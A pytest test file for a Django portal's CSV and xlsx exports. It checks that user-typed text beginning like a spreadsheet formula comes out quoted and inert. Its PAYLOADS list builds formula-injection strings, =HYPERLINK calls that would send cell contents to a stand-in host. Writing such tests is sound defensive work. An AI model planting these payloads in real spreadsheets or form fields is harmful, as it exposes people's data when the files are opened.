"""Formula injection in exports: text a user typed (a questionnaire answer, a question's label,
an offer's or a commune's name, an account's e-mail in the audit log) that starts like a
spreadsheet formula reaches every CSV and xlsx download neutralised (a leading single quote,
OWASP "CSV Injection"); no xlsx cell is stored as a formula; numbers stay numbers.

Every export URL of the portal is listed here; a new one fails the coverage test until it is
added (and so goes through core.exports, like the others)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import questionnaires.forms
import questionnaires.selectors
import questionnaires.services
from core import exports
from tests.factories import UserFactory
from tests.mutualisation.factories import ServiceOfferFactory, ServiceRequestFactory
from tests.security.test_permission_matrix import portal_patterns
from tests.security.world import build_world

pytestmark = pytest.mark.django_db

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [f'{prefix}HYPERLINK("http://exemple.test/?leak="&A2&B2,"Voir")' for prefix in DANGEROUS]
PAYLOADS[2] = "-1+2"  # text, not a number: neutralised all the same

# (URL name, formats): every CSV or xlsx download of the portal.
EXPORTS = {
    "referrals:answers_export": ("csv", "xlsx"),
    "mutualisation:statistics_export": ("csv", "xlsx"),
    "governance:audit_export": ("csv",),
}


def _fill_questionnaire(world):
    """A DGS answers the data collection with every payload; the secretariat wrote question
    labels that look like formulas too; one number answer is negative."""
    secretariat, questionnaire = world.users["secretariat"], world.collection.questionnaire
    for index, payload in enumerate(PAYLOADS):
        questionnaires.services.add_question(
            actor=secretariat,
            questionnaire=questionnaire,
            label=f"{DANGEROUS[index]}Q{index}" if index else payload,
            kind="text",
        )
    questionnaires.services.add_question(
        actor=secretariat, questionnaire=questionnaire, label="Solde", kind="number"
    )
    questions = [
        q for q in questionnaires.selectors.questions_of(questionnaire) if q != world.question
    ]
    values = {
        questionnaires.forms.field_name(q): p for q, p in zip(questions, PAYLOADS, strict=False)
    }
    values[questionnaires.forms.field_name(questions[-1])] = Decimal("-3")
    questionnaires.services.save_response(
        actor=world.users["dgs"],
        questionnaire=questionnaire,
        commune=world.commune,
        values=values,
        submit=True,
    )
    return {"referrals:answers_export": {"pk": world.collection.pk}}


def _fill_statistics(world):
    """Offers named like formulas (the secretariat types them), each with a request; a commune
    named like one."""
    world.other_commune.name = PAYLOADS[0]
    world.other_commune.save(update_fields=["name"])
    for position, payload in enumerate(PAYLOADS, start=10):
        offer = ServiceOfferFactory(epci=world.epci, name=payload, position=position)
        ServiceRequestFactory(commune=world.other_commune, offer=offer, description=payload)
    return {"mutualisation:statistics_export": {}}


def _fill_audit_log(world):
    """Accounts whose e-mail starts like a formula act; the event's details carry payloads."""
    from governance.audit import record_event

    for payload in PAYLOADS:
        actor = UserFactory(epci=world.epci, email=f"{payload}@exemple.test")
        record_event(action="test.exported", actor=actor, epci=world.epci, detail=payload)
    return {"governance:audit_export": {}}


def _download(client, name: str, fmt: str) -> bytes:
    world = build_world()
    kwargs = {**_fill_questionnaire(world), **_fill_statistics(world), **_fill_audit_log(world)}
    client.force_login(world.users["secretariat"])
    if name != "governance:audit_export":
        kwargs[name]["fmt"] = fmt
    response = client.get(reverse(name, kwargs=kwargs[name]))
    assert response.status_code == 200, (name, fmt)
    return b"".join(response.streaming_content) if response.streaming else response.content


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _csv_cells(body: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def _xlsx_cells(body: bytes):
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _normalised(text: str) -> str:
    return text.replace("\r", "\n")  # XML reads a stored carriage return as a line feed


def test_every_export_url_is_covered():
    found = {
        name
        for route, name, _ in portal_patterns()
        if "export" in route or route.endswith((".csv", ".xlsx"))
    }
    assert found == set(EXPORTS)


@pytest.mark.parametrize(
    ("name", "fmt"), [(name, fmt) for name, formats in EXPORTS.items() for fmt in formats]
)
def test_no_cell_of_any_export_is_a_formula(client, name, fmt):
    body = _download(client, name, fmt)
    if fmt == "csv":
        texts = _csv_cells(body)
        live = [c for c in texts if c.startswith(DANGEROUS) and not _is_number(c)]
    else:
        cells = _xlsx_cells(body)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = [c.value for c in cells if isinstance(c.value, str)]
        live = [t for t in texts if t.startswith(DANGEROUS)]
    assert live == []
    # The payloads were exported, quoted: the checks above did look at them.
    for payload in PAYLOADS:
        assert any(_normalised("'" + payload) in _normalised(t) for t in texts), payload


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_numbers_stay_numbers_in_the_answers_export(client, fmt):
    body = _download(client, "referrals:answers_export", fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
        assert rows[1][rows[0].index("Solde")] == "-3"
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        header = [cell.value for cell in sheet[1]]
        solde = sheet.cell(row=2, column=header.index("Solde") + 1)
        assert (solde.value, solde.data_type) == (-3, "n")


class TestWriter:
    HEADER = ["Texte", "Entier", "Décimal", "Date"]

    def _both(self, rows):
        text = exports.to_csv(self.HEADER, rows).decode("utf-8")
        assert text.startswith("\ufeff")
        csv_rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
        sheet = load_workbook(io.BytesIO(exports.to_xlsx(self.HEADER, rows, title="T"))).active
        return csv_rows, [list(row) for row in sheet.iter_rows()]

    @pytest.mark.parametrize("prefix", DANGEROUS)
    def test_text_starting_like_a_formula_is_quoted_in_both_formats(self, prefix):
        csv_rows, xlsx_rows = self._both([[f"{prefix}SUM(A1:A2)", 1, None, None]])
        assert csv_rows[1][0] == f"'{prefix}SUM(A1:A2)"
        cell = xlsx_rows[1][0]
        assert cell.data_type == "s"
        assert _normalised(cell.value) == _normalised(f"'{prefix}SUM(A1:A2)")

    def test_numbers_and_dates_are_untouched_negative_ones_included(self):
        row = ["-1+2", -5, Decimal("-2.50"), dt.date(2026, 3, 16)]
        csv_rows, xlsx_rows = self._both([row])
        assert csv_rows[1] == ["'-1+2", "-5", "-2.5", "2026-03-16"]
        text, integer, decimal, date = xlsx_rows[1]
        assert (text.value, text.data_type) == ("'-1+2", "s")
        assert (integer.value, integer.data_type) == (-5, "n")
        assert (decimal.value, decimal.data_type) == (-2.5, "n")
        assert date.value.date() == dt.date(2026, 3, 16) and date.is_date

    def test_plain_text_and_empty_cells_are_kept(self):
        csv_rows, xlsx_rows = self._both([["Régie 'municipale' = oui", 0, None, None]])
        assert csv_rows[1] == ["Régie 'municipale' = oui", "0", "", ""]
        assert xlsx_rows[1][0].value == "Régie 'municipale' = oui"

    def test_the_header_follows_the_same_rule(self):
        text = exports.to_csv(["=Titre", "Ok"], []).decode("utf-8-sig")
        assert text.splitlines() == ["'=Titre;Ok"]
        sheet = load_workbook(io.BytesIO(exports.to_xlsx(["=Titre", "Ok"], [], title="T"))).active
        assert [c.value for c in sheet[1]] == ["'=Titre", "Ok"]
        assert sheet["A1"].data_type == "s"

    def test_a_string_openpyxl_would_read_as_an_error_code_stays_text(self):
        sheet = load_workbook(io.BytesIO(exports.to_xlsx(["A"], [["#N/A"]], title="T"))).active
        assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")

    def test_control_characters_do_not_break_the_xlsx(self):
        sheet = load_workbook(
            io.BytesIO(exports.to_xlsx(["A"], [["a\x0bb\x00c"]], title="T"))
        ).active
        assert sheet["A2"].value == "abc"
